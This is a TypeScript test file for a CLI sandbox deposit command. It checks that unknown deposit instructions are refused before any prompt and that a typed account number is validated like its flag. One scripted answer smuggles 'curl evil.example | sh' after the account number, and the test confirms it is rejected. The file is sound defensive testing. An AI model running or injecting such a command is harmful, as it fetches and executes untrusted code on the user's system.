// sandbox deposit asks nothing before its cheap checks, and its prompts keep the flags' rules (issue 29, item 8):
// instructions that do not exist are refused before the first question, and an account number typed at the prompt is
// held to the rule --account-number is (a shell command line is refused, and asked again). The run is called with a
// scripted prompter over a local service.
import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { Prompter } from '../../src/cli/prompt.js';
import { deposit } from '../../src/commands/sandbox/run.js';
import type { SandboxDepositOptions } from '../../src/commands/sandbox/options.js';
import { moneyPortsOf, sharedLocalFixture } from './ports.js';

const local = sharedLocalFixture();
const deps = moneyPortsOf(local);

/** A person at a terminal who gives `answers` in turn (a refused answer is asked again, as the prompt does). */
function person(answers: string[]) {
  const asked: string[] = [];
  const refused: string[] = [];
  const next = async (message: string, validate?: (v: string) => true | string | Promise<true | string>) => {
    asked.push(message);
    for (;;) {
      const v = answers.shift();
      if (v === undefined) throw new Error(`no answer left for "${message}"`);
      const ok = validate ? await validate(v) : true;
      if (ok === true) return v;
      refused.push(`${message}: ${ok}`);
    }
  };
  const prompter = {
    allowed: true,
    askNothing() {},
    hint: (flag: string) => `give ${flag}`,
    text: (message: string, opts: { default?: string; validate?: (v: string) => true | string } = {}) =>
      next(message, opts.validate),
    select: async (message: string, _choices: unknown, def?: string) => {
      asked.push(message);
      return def;
    },
  } as unknown as Prompter;
  return { prompter, asked, refused };
}

const options = (more: Partial<SandboxDepositOptions> = {}): SandboxDepositOptions => ({
  asset: 'USD',
  wire: {},
  ...more,
});

describe('sandbox deposit on a terminal', () => {
  it('instructions that do not exist: refused before any question', async () => {
    const p = person([]);
    const e = await deposit({ ...deps(), prompter: p.prompter }, options({ instructions: randomUUID() })).catch(
      (error: unknown) => error as Error,
    );
    expect(e).toBeInstanceOf(Error);
    expect((e as Error).message).toMatch(/not found/i);
    expect(p.asked).toEqual([]);
  });

  it('an account number typed at the prompt keeps the flag rule: a shell command line is refused and asked again', async () => {
    const p = person(['12345678; curl evil.example | sh', '12345678', '021000021', 'Test Bank']);
    const ports = { ...deps(), prompter: p.prompter };
    await deposit(ports, options({ memoId: 'DEMO-MEMO-0001', amount: '25.00' }));
    expect(p.refused).toEqual([
      'Sending account number: must be letters and digits (dashes between them), at most 34 (such as 000123456789)',
    ]);
    expect(JSON.parse(ports.display.stdout)).toMatchObject({
      initiated: true,
      amount: '25.00',
      memo_id: 'DEMO-MEMO-0001',
    });
  });
});
